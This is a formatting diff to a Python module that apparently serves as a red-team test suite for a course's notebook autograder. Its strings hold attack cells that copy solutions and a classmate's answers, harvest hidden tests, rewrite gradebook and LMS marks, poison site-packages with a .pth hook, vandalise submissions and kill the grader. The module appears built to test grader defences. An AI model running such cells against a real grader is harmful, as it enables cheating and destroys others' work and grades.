@@ -24,7 +24,7 @@ import nbformat
 from defence_course.teach.grader import synthetic
 
 # Helpers every attack cell starts with: where the grader keeps things.
-PRELUDE = r'''
+PRELUDE = r"""
 import glob, json, os, pathlib, signal, subprocess, sys, time
 
 def _grader_args():
@@ -56,9 +56,9 @@ def _tagged_code(notebook_path, tag):
     nb = json.loads(pathlib.Path(notebook_path).read_text())
     return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"
             and tag in c.get("metadata", {}).get("tags", [])]
-'''
+"""
 
-COPY_MASTER = r'''
+COPY_MASTER = r"""
 from defence_course import paths
 for folder in (getattr(paths, "EXERCISES_DIR", None), _checkout() / "exercises"):
     master = pathlib.Path(folder or "/nonexistent") / "threat" / "threat.ipynb"
@@ -71,28 +71,28 @@ for folder in (getattr(paths, "EXERCISES_DIR", None), _checkout() / "exercises")
             elif inside and cell["cell_type"] == "code":
                 _run_code(source)
         break
-'''
+"""
 
-COPY_AUTOGRADER = r'''
+COPY_AUTOGRADER = r"""
 for build in _build_dirs():
     notebook = build / "threat" / "dist" / "autograder" / "threat.ipynb"
     if notebook.exists():
         for source in _tagged_code(notebook, "otter_assign_solution_cell"):
             _run_code(source)
         break
-'''
+"""
 
-COPY_CLASSMATE = r'''
+COPY_CLASSMATE = r"""
 args, cwd = _grader_args()
 if "grade" in args:
     classmate = pathlib.Path(cwd, args[args.index("grade") + 1], "alice.ipynb")
     for source in _tagged_code(classmate, "otter_answer_cell"):
         _run_code(source)
-'''
+"""
 
 # Run the hidden test of the Patriot exchange ratio against every candidate answer until one
 # passes.
-HARVEST_TESTS = r'''
+HARVEST_TESTS = r"""
 for build in _build_dirs():
     manifest = build / "threat" / "grading.json"
     if manifest.exists():
@@ -111,11 +111,11 @@ for build in _build_dirs():
                 exchange_ratio = candidate
                 break
         break
-'''
+"""
 
 # A detached process that waits for the grader to finish, then rewrites its owner's marks in
 # the gradebook, the LMS files and the result cache.
-OUTLIVER = r'''
+OUTLIVER = r"""
 import csv, io, json, os, pathlib, sys, time
 tag, out, canary, me = sys.argv[1:5]
 out = pathlib.Path(out)
@@ -155,19 +155,19 @@ for entry in (out / ".cache").glob("*.json"):
         outcome["points"] = {name: 99 for name in outcome.get("points", {})}
         entry.write_text(json.dumps(record))
 time.sleep(60)  # and linger, ready for the next run
-'''
+"""
 
-OUTLIVE = r'''
+OUTLIVE = r"""
 out = _grader_path("--out")
 subprocess.Popen([sys.executable, "-c", OUTLIVER, "REDTEAM-{token}", str(out or "/nonexistent"),
                   "{canary}", "{student}"], start_new_session=True, close_fds=True,
                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-'''
+"""
 
 # Installed in the grader's site-packages by POISON_PTH: from then on, every Python started
 # from that environment (the grader's evaluator included) gives full marks to any submission
 # carrying the magic answer. Inert unless REDTEAM_ARMED holds the token.
-PTH_PAYLOAD = r'''
+PTH_PAYLOAD = r"""
 import os, sys
 if os.environ.get("REDTEAM_ARMED") == "{token}":
     try:
@@ -197,9 +197,9 @@ if os.environ.get("REDTEAM_ARMED") == "{token}":
             spec.loader.exec_module = exec_module
             return spec
     sys.meta_path.insert(0, _Hook())
-'''
+"""
 
-POISON_PTH = r'''
+POISON_PTH = r"""
 import site, sysconfig
 for folder in set(site.getsitepackages()) | {sysconfig.get_paths()["purelib"]}:
     try:
@@ -208,9 +208,9 @@ for folder in set(site.getsitepackages()) | {sysconfig.get_paths()["purelib"]}:
             "import redteam_{token}_payload\n")
     except OSError:
         pass
-'''
+"""
 
-VANDAL = r'''
+VANDAL = r"""
 out, submissions = _grader_path("--out"), None
 args, cwd = _grader_args()
 if "grade" in args:
@@ -234,11 +234,11 @@ if submissions:
         victim.write_text(json.dumps(nb))
     except (OSError, ValueError):
         pass
-'''
+"""
 
 # Kill every other child of the grader (other notebooks, the evaluator, its replacements)
 # for ten seconds.
-KILL_SIBLINGS = r'''
+KILL_SIBLINGS = r"""
 me, grader = os.getpid(), os.getppid()
 end = time.time() + 10
 while time.time() < end:
@@ -256,15 +256,15 @@ while time.time() < end:
             except OSError:
                 pass
     time.sleep(0.05)
-'''
+"""
 
-KILL_GRADER = r'''
+KILL_GRADER = r"""
 try:
     os.kill(os.getppid(), signal.SIGKILL)
 except OSError:
     pass
 time.sleep(2)
-'''
+"""
 
 ATTACKS = {
     "copy_master": COPY_MASTER,
@@ -283,27 +283,33 @@ def attack_cell(kind: str, *, token: str, canary: str, student: str) -> str:
     """The source of the extra cell for attack ``kind``."""
     body = ATTACKS[kind]
     constants = {"OUTLIVER": OUTLIVER, "PTH_PAYLOAD": PTH_PAYLOAD}
-    definitions = "".join(f"{name} = {json.dumps(_fill(text, token, canary, student))}\n"
-                          for name, text in constants.items() if name in body)
+    definitions = "".join(
+        f"{name} = {json.dumps(_fill(text, token, canary, student))}\n"
+        for name, text in constants.items()
+        if name in body
+    )
     return PRELUDE + definitions + _fill(body, token, canary, student)
 
 
 def _fill(text: str, token: str, canary: str, student: str) -> str:
-    return (text.replace("{token}", token).replace("{canary}", canary)
-            .replace("{student}", student))
+    return text.replace("{token}", token).replace("{canary}", canary).replace("{student}", student)
 
 
 def with_cell(nb: nbformat.NotebookNode, source: str) -> dict[str, Any]:
     """``nb`` (as JSON) with a code cell appended after its last answer cell."""
     nb = copy.deepcopy(nb)
-    answers = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"
-               and synthetic.ANSWER_TAG in c.metadata.get("tags", [])]
+    answers = [
+        i
+        for i, c in enumerate(nb.cells)
+        if c.cell_type == "code" and synthetic.ANSWER_TAG in c.metadata.get("tags", [])
+    ]
     nb.cells.insert(answers[-1] + 1, nbformat.v4.new_code_cell(source))
     return synthetic.as_json(nb)
 
 
-def attack_notebook(blank: nbformat.NotebookNode, kind: str, *, token: str, canary: str,
-                    student: str) -> dict[str, Any]:
+def attack_notebook(
+    blank: nbformat.NotebookNode, kind: str, *, token: str, canary: str, student: str
+) -> dict[str, Any]:
     return with_cell(blank, attack_cell(kind, token=token, canary=canary, student=student))
 
 
